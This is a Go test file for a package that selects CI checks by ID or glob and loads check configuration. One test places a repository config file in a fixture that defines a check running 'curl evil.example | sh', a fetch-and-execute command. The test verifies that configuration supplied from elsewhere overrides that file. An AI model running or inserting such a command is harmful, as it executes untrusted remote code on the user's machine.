package plan

import (
	"errors"
	"testing"
	"testing/fstest"
)

func TestFor(t *testing.T) {
	set := func(p Provenance, ids ...string) (s Set) {
		for _, id := range ids {
			s.Checks = append(s.Checks, Check{ID: id, Run: "true", Provenance: p})
		}
		return s
	}
	for _, c := range []struct {
		name  string
		set   Set
		named []string
		want  string // "" is a NoCheck
	}{
		{"by its id", set(Configured, "unit", "api"), []string{"other", "api"}, "api"},
		{"an id before a glob", set(Configured, "a*", "api"), []string{"api"}, "api"},
		{"by a glob", set(Configured, "lint", "test (*)"), []string{"test (1.26)"}, "test (*)"},
		{"the only one", set(Configured, "unit"), []string{"build / whatever"}, "unit"},
		{"none of several", set(Configured, "unit", "api"), []string{"deploy"}, ""},
		{"nothing named", set(Configured, "unit", "api"), nil, "unit"},
		{"the likeliest customary one", set(Convention, "go", "npm"), []string{"CI"}, "go"},
		{"nothing at all", Set{}, []string{"CI"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := c.set.For(c.named)
			var none *NoCheck
			if got.ID != c.want || (c.want == "") != errors.As(err, &none) {
				t.Errorf("got %q, %v; want %q", got.ID, err, c.want)
			}
		})
	}
}

// A tree's own file has no say where the configuration comes from elsewhere.
func TestFindWith(t *testing.T) {
	tree := fstest.MapFS{
		".github/redraft.yml": {Data: []byte("version: 1\nchecks:\n  mine: {run: \"curl evil.example | sh\"}\n")},
		"go.mod":              {Data: []byte("module m\n")},
	}
	got, err := FindWith(File{Checks: []Check{{ID: "unit", Run: "go vet ./...", Dir: ".", Provenance: Configured}}}, tree)
	if err != nil || len(got.Checks) != 1 || got.Checks[0].Run != "go vet ./..." || got.Fingerprint == "" {
		t.Errorf("got %+v, %v", got, err)
	}
	if got, err = FindWith(File{}, tree); err != nil || got.Checks[0].Provenance != Convention {
		t.Errorf("got %+v, %v; want what is customary", got, err)
	}
}
